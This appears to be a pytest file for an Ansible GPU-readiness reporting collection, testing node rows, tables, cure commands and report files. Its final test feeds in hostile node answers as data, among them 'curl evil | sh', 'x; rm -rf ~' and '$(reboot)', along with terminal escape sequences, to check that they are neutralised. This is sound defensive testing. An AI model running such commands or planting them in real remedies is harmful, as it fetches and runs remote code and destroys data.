# Copyright: (c) 2026, GPU Fleet contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest

from ansible_collections.gpufleet.kimi_k3.plugins.module_utils.readiness.probe import check_ids
from ansible_collections.gpufleet.kimi_k3.plugins.plugin_utils.report.document import document
from ansible_collections.gpufleet.kimi_k3.plugins.plugin_utils.report.files import write
from ansible_collections.gpufleet.kimi_k3.plugins.plugin_utils.report.rows import node_row
from ansible_collections.gpufleet.kimi_k3.plugins.plugin_utils.report.terminal import cure_command, table

WHEN = datetime(2026, 11, 30, 21, 0, 0, tzinfo=UTC)
REMEDY = {
    "action": "Drain and reboot.",
    "command": "reboot now",
    "disruptive": "reboot",
    "role": None,
    "entry_point": None,
    "playbook": None,
    "tag": None,
}


def check(check_id, status, blocking=True, remedy=None):
    return {
        "id": check_id,
        "status": status,
        "observed": None,
        "required": None,
        "reason": f"{check_id} is {status}.",
        "evidence": [],
        "remedy": remedy,
        "blocking": blocking,
    }


def probed(verdict="ready", cause=None, checks=()):
    """What the probe of a node answers: every check passes but those given."""
    given = {item["id"]: item for item in checks}
    answers = [given.get(check_id, check(check_id, "pass")) for check_id in check_ids()]
    return {
        "readiness": {"schema": "1.0", "verdict": verdict, "root_cause": cause, "checks": answers, "facts": {}},
    }


FAILED = probed(
    "not_ready",
    "driver.consistent",
    [
        check("driver.consistent", "fail", remedy=REMEDY),
        check("gpu.ecc", "unknown"),
        check("host.clock", "warn", False),
    ],
)


def report_of(results):
    rows = [node_row(host, result) for host, result in results.items()]
    return document(rows, "probe", WHEN, "0.1.0")


def test_every_node_has_a_row_and_is_counted():
    report = report_of(
        {
            "a": probed(),
            "b": FAILED,
            "c": {"unreachable": True, "msg": "no route"},
            "d": None,
            "e": {"failed": True, "msg": "boom"},
        }
    )
    assert report["summary"] == {"nodes": 5, "ready": 1, "degraded": 0, "not_ready": 4}
    assert [node["state"] for node in report["nodes"]] == ["probed", "probed", "unreachable", "broken", "broken"]
    assert all(node["verdict"] == "not_ready" for node in report["nodes"][1:])


@pytest.mark.parametrize("result", [{"readiness": None}, {"readiness": {}}, {"readiness": {"verdict": "fine"}}, {}])
def test_an_answer_that_is_no_report_is_never_ready(result):
    assert node_row("a", result)["verdict"] == "not_ready"


@pytest.mark.parametrize(
    ("result", "meaning"),
    [
        (
            {
                "failed": True,
                "msg": "MODULE FAILURE",
                "module_stderr": "SyntaxError: future feature annotations",
            },
            "too old",
        ),
        (
            {"failed": True, "msg": "Ansible requires Python 3.9 or newer on the target. Current version: 3.6.8"},
            "too old",
        ),
        ({"failed": True, "msg": "The module interpreter '/usr/bin/python3' was not found."}, "no usable Python"),
        ({"failed": True, "msg": "sudo: sorry, you must have a tty to run sudo"}, "wants a terminal"),
        ({"failed": True, "msg": "Missing sudo password"}, "wants a password"),
        ({"failed": True, "msg": "Premature end of stream\n/bin/sh: 1: sudo: not found"}, "no sudo on this node"),
        ({"failed": True, "msg": "Task failed: Timed out after 120 second(s)."}, "time limit"),
        ({"failed": True, "msg": "something else"}, "the probe failed: something else"),
        ({"failed": True}, "no reason was given"),
    ],
)
def test_why_a_probe_broke_is_said_with_what_to_do(result, meaning):
    row = node_row("a", result)
    assert meaning in row["reason"]
    assert row["remedy"]["action"]


def test_a_hostile_answer_is_harmless_in_report_and_table():
    row = node_row("a", {"unreachable": True, "msg": "\x1b[2Jgone --password hunter22hunter"})
    report = document([row], "probe", WHEN, "0.1.0")
    for text in (json.dumps(report), table(report)):
        assert "\x1b" not in text
        assert "hunter22" not in text


def test_the_table_names_verdict_cause_failures_and_cure():
    lines = table(report_of({"gpu-01": probed(), "gpu-02": FAILED})).splitlines()
    assert lines[0] == "Kimi K3 readiness of 2: 1 ready, 0 degraded, 1 not ready"
    assert lines[2].split() == [
        "gpu-02",
        "NOT",
        "READY",
        "driver.consistent",
        "driver.consistent;",
        "1",
        "unknown,",
        "1",
        "warnings",
    ]
    assert lines[3].split(maxsplit=1) == ["why", "driver.consistent is fail."]
    assert lines[4].split(maxsplit=1) == ["cure", "Drain and reboot. (reboot)"]
    assert lines[5].split(maxsplit=2) == ["as", "root", "reboot now"]
    assert lines[-1].split() == ["gpu-01", "ready", "-", "-"]


def test_a_command_to_copy_is_never_wrapped():
    command = "systemctl restart " + "x" * 300
    result = probed("not_ready", "gpu.ecc", [check("gpu.ecc", "fail", remedy={**REMEDY, "command": command})])
    assert any(line.endswith(command) for line in table(report_of({"a": result})).splitlines())


def test_a_cure_of_the_collection_is_a_playbook_with_its_tag():
    remedy = {**REMEDY, "playbook": "gpufleet.kimi_k3.site", "tag": "nvidia_driver"}
    line = "ansible-playbook gpufleet.kimi_k3.site -i hosts.yml -i 'my rack' --limit gpu-02 --tags nvidia_driver"
    assert cure_command("gpu-02", remedy, ["hosts.yml", "my rack"]) == ("run", line)


def test_reports_are_never_overwritten_and_latest_is_the_newest(tmp_path):
    reports = [report_of({host: probed()}) for host in ("a", "b")]
    first, second = (write(report, tmp_path, "probe", WHEN) for report in reports)
    assert first != second
    assert json.loads(first.read_text()) == reports[0]
    assert json.loads((tmp_path / "latest" / "readiness.json").read_text()) == reports[1]


def test_a_folder_in_the_place_of_latest_is_not_removed(tmp_path):
    (tmp_path / "latest").mkdir()
    (tmp_path / "latest" / "mine").write_text("keep")
    with pytest.raises(FileExistsError, match="latest"):
        write(report_of({"a": probed()}), tmp_path, "probe", WHEN)
    assert (tmp_path / "latest" / "mine").read_text() == "keep"


def test_a_degraded_node_says_what_degrades_it():
    warnings = [check(check_id, "warn", remedy=REMEDY) for check_id in check_ids()[:5]]
    lines = table(report_of({"a": probed("degraded", None, warnings)})).splitlines()
    assert [line.split()[1:3] for line in lines[3:6]] == [[check_id, "(warn):"] for check_id in check_ids()[:3]]
    assert lines[6].split() == ["why", "and", "2", "more"]


def evil(**changes):
    """A node's answer with its first check changed."""
    answer = probed("not_ready", "host.managed_by", [check("host.managed_by", "fail", remedy=REMEDY)])
    answer["readiness"]["checks"][0].update(changes)
    return answer


def forged(**changes):
    """A node's answer that says of itself what its checks do not."""
    answer = probed("not_ready", "gpu.ecc", [check("gpu.ecc", "fail", remedy=REMEDY)])
    answer["readiness"].update(changes)
    return answer


@pytest.mark.parametrize(
    "result",
    [
        forged(verdict="ready"),
        forged(root_cause="\x1b]0;PWN\x07"),
        forged(root_cause=None),
        forged(checks=[]),
        forged(checks={}),
        forged(checks=[None]),
        forged(facts=None),
        {"readiness": {"verdict": "ready"}},
        {"readiness": ["ready"]},
        evil(id="host.managed_by\x1b[31m"),
        evil(status="fine"),
        evil(status=["pass"]),
        evil(reason=None),
        evil(blocking="no"),
        evil(evidence="none"),
        evil(evidence=[{"source": 1, "line": ""}]),
        evil(remedy={}),
        evil(remedy={**REMEDY, "disruptive": "none\x1b[31m"}),
        evil(remedy={**REMEDY, "command": "curl evil | sh"}),
        evil(remedy={**REMEDY, "playbook": "x; rm -rf ~"}),
        evil(remedy={**REMEDY, "tag": "$(reboot)"}),
    ],
)
def test_an_answer_that_is_not_the_probes_is_a_broken_row_and_spoils_no_other(result):
    report = report_of({"evil": result, "good": probed()})
    evil_row, good_row = report["nodes"]
    assert (evil_row["state"], evil_row["verdict"]) == ("broken", "not_ready")
    assert "form of a report" in evil_row["reason"]
    assert good_row["verdict"] == "ready"
    assert table(report).replace("\n", "").isprintable()


def test_texts_of_a_node_are_harmless_in_the_table_also_where_its_answer_is_sound():
    remedy = {**REMEDY, "action": "Do \x1b[2J this."}
    answer = probed("not_ready", "gpu.ecc", [{**check("gpu.ecc", "fail", remedy=remedy), "reason": "\x1b[31mred"}])
    report = report_of({"a": answer})
    assert report["nodes"][0]["state"] == "probed"
    assert "\\u001b" not in json.dumps(report)
    assert table(report).replace("\n", "").isprintable()
